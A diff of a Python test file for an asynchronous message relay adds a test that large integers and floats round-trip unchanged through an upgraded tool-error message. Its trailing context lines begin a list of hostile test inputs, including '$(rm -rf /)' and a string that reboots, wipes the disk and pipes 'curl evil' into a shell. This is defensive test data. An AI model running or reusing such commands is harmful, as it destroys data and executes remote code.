@@ -672,6 +672,46 @@ async def test_unrepresentable_json_never_breaks_the_relay(
     assert got[key(3)] == server_line(3, after)
 
 
+SERVER_INTEGERS: dict[str, Any] = {"past_64_bits": 10**30, "below_int64": -(2**64)}
+SERVER_FLOATS: dict[str, Any] = {
+    "large": 1e16,
+    "small": 1e-05,
+    "smaller": 1e-07,
+    "negative_zero": -0.0,
+    "plain": 2.5,
+}
+
+
+@pytest.mark.parametrize("transport", TRANSPORTS)
+async def test_an_upgraded_tool_error_keeps_the_servers_numbers(
+    make_harness: MakeHarness, transport: str
+) -> None:
+    """An upgraded message is parsed and written back: an integer past 64 bits stays that
+    integer, and floats keep the form the standard library gives them (`1e+16`, `1e-05`).
+    orjson, tried for this parse and write, reads the first as a float and writes `1e-05`
+    as `0.00001` and `1e-07` as `1e-7` (docs/performance.md#round-four-parsing-less)."""
+    harness = await make_harness()
+    calls = {
+        10**30: (SERVER_INTEGERS, {"offset": 2**70}),
+        2: (SERVER_FLOATS, {"scale": 1e-07}),
+    }
+    got = await harness.roundtrip(
+        transport,
+        [
+            request(n, _reply=tool_error("it broke", structuredContent=numbers), arguments=args)
+            for n, (numbers, args) in calls.items()
+        ],
+    )
+    for n, (sent, _) in calls.items():
+        raw = got[key(n)]
+        message = strict_json(raw)
+        assert failure_of(message)["error"]["code"] == "ECHOED"
+        numbers = message["result"]["structuredContent"]
+        assert numbers == sent
+        assert [type(v) for v in numbers.values()] == [type(v) for v in sent.values()]
+        assert json.dumps(sent, separators=(",", ":")).encode() in raw
+
+
 HOSTILE_TEXTS = [
     "$(rm -rf /)",
     "`reboot`; rm -rf / && curl evil|sh",
